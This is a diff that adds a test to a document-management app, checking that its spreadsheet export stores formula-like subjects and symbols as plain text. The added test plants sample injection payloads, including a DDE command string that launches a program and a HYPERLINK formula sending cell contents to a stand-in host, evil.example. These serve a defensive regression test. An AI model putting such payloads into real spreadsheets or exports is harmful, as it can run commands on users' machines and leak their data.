@@ -192,3 +192,19 @@ def test_the_export_holds_only_what_the_user_may_see(world: World) -> None:
     )
     symbols = [row[1] for row in sheet.active.iter_rows(min_row=2, values_only=True)]
     assert symbols == ["03-KH/ĐU"]
+
+
+def test_the_export_writes_subjects_and_symbols_that_look_like_formulas_as_text(world: World) -> None:
+    document = central("35-NQ/TW", "Nghị quyết", dt.date(2018, 10, 20), subject="Bảo vệ nền tảng")
+    # As a path with fewer checks could have stored them; U+0001 once made the export answer 500.
+    Document.objects.filter(pk=document.pk).update(
+        symbol="=cmd|' /C calc'!A0", subject='=HYPERLINK("http://evil.example/?u="&A5,"x")\x01', term="+1"
+    )
+    response = world.client_for(world.alice).get("/documents/export.xlsx")
+    assert response.status_code == 200
+    row = next(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))
+    assert [(c.value, c.data_type) for c in (row[1], row[3], row[5])] == [
+        ("=cmd|' /C calc'!A0", "s"),
+        ('=HYPERLINK("http://evil.example/?u="&A5,"x")', "s"),
+        ("+1", "s"),
+    ]
